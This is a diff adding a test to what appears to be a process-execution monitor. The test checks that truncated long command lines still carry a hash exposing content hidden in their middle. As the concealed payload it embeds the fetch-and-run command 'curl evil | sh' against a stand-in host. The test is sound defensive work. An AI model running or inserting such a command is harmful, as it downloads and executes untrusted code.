@@ -144,6 +144,41 @@ def test_long_arguments(w):
     assert line.startswith(("/bin/act_id aaaa", "act_id aaaa")) and line.endswith("wxyz"), event
 
 
+def fnv1a(data):
+    value = 0xcbf29ce484222325
+    for byte in data:
+        value = (value ^ byte) * 0x100000001b3 & 0xffffffffffffffff
+    return f"{value:016x}"
+
+
+@suite.cases(("as long as fits", 4096, False), ("a byte more", 4097, True),
+             ("120 kB", 120000, True), ("120 kB less one", 119999, True))
+def test_hash_of_all_arguments(w, _label, size, cut):
+    """What matters may be in the middle, which is cut out: its hash tells it."""
+    seen = set()
+    for middle in ("", "curl evil | sh"):
+        truth = w.c.act("act_exec", "long", str(size), "/bin/act_id", middle)
+        event = ran(w, w.c, truth)
+        assert field(event, "rootwatch.exec.truncated") is cut, event
+        if not cut:
+            assert "rootwatch.exec.argv_hash" not in event["output_fields"], event
+            continue
+        room = size - len("/bin/act_id") - 1 - len("wxyz") - 1
+        text = bytearray(b"a" * (room - 1) + b"\0")
+        text[room // 2:room // 2 + len(middle)] = middle.encode()
+        told = field(event, "rootwatch.exec.argv_hash")
+        if told is None and kernel() < (5, 17):
+            raise suite.Skip("no bpf_loop here, so no hash")
+        assert told == fnv1a(b"/bin/act_id\0" + text + b"wxyz\0"), event
+        assert middle not in field(event, "proc.cmdline") or not middle, event
+        seen.add(told)
+    assert len(seen) == (2 if cut else 0), seen
+
+
+def kernel():
+    return tuple(int(n) for n in os.uname().release.split(".")[:2])
+
+
 def test_other_argv0(w):
     truth = w.c.act("act_exec", "argv0", "/usr/sbin/cron", "/bin/act_id", "x")
     assert truth["argv0"] == "/usr/sbin/cron"
